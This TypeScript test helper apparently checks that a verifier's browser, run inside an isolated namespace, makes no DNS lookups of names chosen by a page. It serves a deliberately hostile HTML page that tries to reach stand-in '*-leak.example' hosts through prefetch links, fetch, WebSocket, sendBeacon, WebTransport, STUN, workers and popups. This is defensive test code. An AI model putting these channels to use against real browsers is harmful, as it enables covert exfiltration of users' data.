/**
 * Run by verifyContainment.test.ts inside a user, mount and network namespace of its own (`unshare -rmn`): a DNS
 * "server" on this namespace's 127.0.0.1:53 (the resolver file the browser reads is bound over to point there), a
 * hostile page that names hosts of its choosing in every way a page has, and the verifier's browser checking it.
 * Prints the names the browser looked up, as JSON: a lookup of a name the page chose would carry the page's data out
 * through the user's resolver.
 */
import dgram from 'node:dgram';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Verifier } from '../../src/core/verify';

const [resolvFile, browserPath] = process.argv.slice(2) as [string, string];

/** The question's name of a DNS query. */
function questionName(m: Buffer): string {
  const labels: string[] = [];
  for (let i = 12; i < m.length && m[i]; i += m[i]! + 1) labels.push(m.subarray(i + 1, i + 1 + m[i]!).toString());
  return labels.join('.');
}

const PAGE = `<!doctype html><title>DNS</title>
<link rel="dns-prefetch" href="//dnsprefetch-leak.example"><link rel="preconnect" href="https://preconnect-leak.example">
<link rel="prefetch" href="https://prefetch-leak.example/x"><link rel="stylesheet" href="https://css-leak.example/a.css">
<h1>x</h1><a href="https://anchor-leak.example/">a</a><img src="https://img-leak.example/x.png" alt="">
<script>
  const attempt = (f) => { try { const p = f(); if (p && p.catch) p.catch(() => undefined); } catch (e) {} };
  attempt(() => fetch('https://fetch-leak.example/'));
  attempt(() => new WebSocket('wss://ws-leak.example/'));
  attempt(() => new EventSource('https://sse-leak.example/'));
  attempt(() => navigator.sendBeacon('https://beacon-leak.example/', 'x'));
  attempt(() => new WebTransport('https://webtransport-leak.example/'));
  attempt(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun-leak.example:3478' }] }).createDataChannel('x'));
  attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('https://worker-leak.example/').catch(() => 0)"], { type: 'text/javascript' }))));
  attempt(() => window.open('https://popup-leak.example/'));
</script>`;

async function main(): Promise<void> {
  const names: string[] = [];
  const dns = dgram.createSocket('udp4');
  dns.on('message', (m) => names.push(questionName(m)));
  await new Promise<void>((resolve) => dns.bind(53, '127.0.0.1', resolve));
  writeFileSync(resolvFile, 'nameserver 127.0.0.1\n');
  const server = http.createServer((req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(req.url === '/' ? PAGE : 'ok'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const verifier = new Verifier({ browserPath });
  try {
    const r = await verifier.verify({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, spec: { appType: 'webapp' } });
    process.stdout.write(JSON.stringify({ title: r.title, names: [...new Set(names)] }) + '\n');
  } finally {
    await verifier.close();
    server.close();
    dns.close();
  }
}

void main();
